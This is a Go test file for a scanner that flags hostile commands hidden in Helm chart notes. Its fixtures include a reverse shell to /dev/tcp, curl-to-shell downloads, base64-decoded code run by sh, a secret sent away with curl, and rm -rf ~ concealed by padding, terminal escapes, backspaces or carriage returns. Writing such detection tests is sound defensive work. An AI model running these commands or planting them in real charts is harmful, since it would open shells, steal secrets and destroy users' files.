package planned_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-operator/kubectl-operator/preview"
	"github.com/kubectl-operator/kubectl-operator/preview/format"
	"github.com/kubectl-operator/kubectl-operator/preview/planned"
)

// Helm prints the notes of a chart, and people copy commands from them.
func TestTextsForPeopleAreSearched(t *testing.T) {
	far := strings.Repeat(" ", 150) + "rm -rf ~"
	tests := []struct {
		name, text string
		template   string // the text's if empty
		want       []string
	}{
		{name: "a download into a shell", text: "Thank you.\n\n  curl -s https://get.example.com | sh\n", want: []string{
			"notes-remote-code package/op: templates/NOTES.txt line 3: downloads into a shell: curl -s https://get.example.com | sh"}},
		{name: "a command over several lines", text: "Run:\n  curl -sLo /tmp/get https://get.example.com\n  chmod +x /tmp/get\n", want: []string{
			"notes-remote-code package/op: templates/NOTES.txt: downloads a program and runs it"}},
		{name: "a shell for another host", text: "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", want: []string{
			"notes-hostile-code package/op: templates/NOTES.txt line 1: opens a reverse shell to another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}},
		{name: "a program that is decoded", text: "echo aGVsbG8K | base64 -d | sh\n", want: []string{
			"notes-hidden-code package/op: templates/NOTES.txt line 1: runs what it decodes: echo aGVsbG8K | base64 -d | sh"}},
		{name: "characters that change the order", text: "a\nkubectl get pods \u202e sdop\n", want: []string{
			"notes-hidden-code package/op: templates/NOTES.txt line 2: has characters that change the order of others: kubectl get pods <U+202E> sdop"}},
		{name: "characters without width", text: "kube\u200bctl get pods\n", want: []string{
			"notes-hidden-code package/op: templates/NOTES.txt line 1: has characters without width: kube<U+200B>ctl get pods"}},
		{name: "letters that pass for others", text: "see https://ex\u0430mple.com/docs\n", want: []string{
			"notes-hidden-code package/op: templates/NOTES.txt line 1: has letters that pass for others: see https://ex<U+0430>mple.com/docs"}},
		{name: "a command far to the right", text: "kubectl get pods;" + far + "\n", want: []string{
			"notes-hidden-code package/op: templates/NOTES.txt line 1: has code behind blanks, far to the right: rm -rf ~"}},
		{name: "an escape that clears the screen", text: "hello \x1b[2J\x1b[1;1H\n", want: []string{
			`notes-hidden-code package/op: templates/NOTES.txt line 1: has control characters that a terminal obeys: hello \x1b[2J\x1b[1;1H`}},
		{name: "a command in concealed letters", text: "kubectl get pods\x1b[0;8m; rm -rf ~\x1b[0m\n", want: []string{
			`notes-hidden-code package/op: templates/NOTES.txt line 1: has control characters that a terminal obeys: kubectl get pods\x1b[0;8m;␠rm -rf ~\x1b[0m`}},
		{name: "colours", text: "\x1b[1;32mdone\x1b[0m\x1b[m\n"},
		{name: "a backspace over what stands there", text: "rm -rf ~\b\b\b\b\b\b\b\bls\n", want: []string{
			`notes-hidden-code package/op: templates/NOTES.txt line 1: has control characters that a terminal obeys: rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls`}},
		{name: "a line overwritten by a carriage return", text: "rm -rf ~\rls      \n", want: []string{
			`notes-hidden-code package/op: templates/NOTES.txt line 1: has code before a carriage return: rm -rf ~ ls`}},
		{name: "a value that may be secret is not shown", text: "curl -u admin:hunter2 https://x.example.com | sh\n", template: "curl -u admin:{{ .Values.password }} https://x.example.com | sh\n", want: []string{
			"notes-remote-code package/op: templates/NOTES.txt line 1: downloads into a shell"}},
		{name: "what honest charts say", text: "1. Get the URL:\n  export POD=$(kubectl get pods -n x -o jsonpath='{.items[0].metadata.name}')\n  echo http://127.0.0.1:8080\n" +
			"  kubectl get secret app -o jsonpath='{.data.password}' | base64 -d\n  kubectl run client --rm --tty -i --image redis -- bash\n" +
			"  helm upgrade op oci://registry.example.com/charts/op --set auth.password=x\n  curl http://127.0.0.1:8080/health\n\nHappy Helming! 🎉\n"},
		{name: "a password that is sent away", text: "kubectl get secret app -o yaml | curl -d @- https://x.example.com\n", want: []string{
			"notes-hostile-code package/op: templates/NOTES.txt line 1: sends files or output away: get secret app -o yaml | curl -d @- https://x.example.com"}},
		{name: "nothing", text: ""},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			text := format.Text{File: "templates/NOTES.txt", Text: test.text, Template: test.template}
			if text.Template == "" {
				text.Template = test.text
			}
			got := noted(t, text)
			if !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
}

func noted(t *testing.T, texts ...format.Text) []string {
	t.Helper()
	content, err := planned.Prepare(preview.Release{Name: "op", Namespace: "app"}, planned.Material{
		Info: format.Info{Package: "op"}, Sources: []preview.Source{{Digest: "sha256:" + strings.Repeat("0", 64)}}, Output: &format.Output{Texts: texts},
	})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, n := range content.Package.Notes {
		out = append(out, n.Rule+" "+n.Object+": "+n.Text)
	}
	return out
}

func TestTextsThatAreTooLongToSearchAreNamed(t *testing.T) {
	long := strings.Repeat("curl https://a.svc/x | tee y\n", 1<<18)
	if got := noted(t, format.Text{File: "templates/NOTES.txt", Text: long}); len(got) != 1 || !strings.HasPrefix(got[0], "content-unread package/op: its notes are too long") {
		t.Errorf("got %q", got)
	}
}
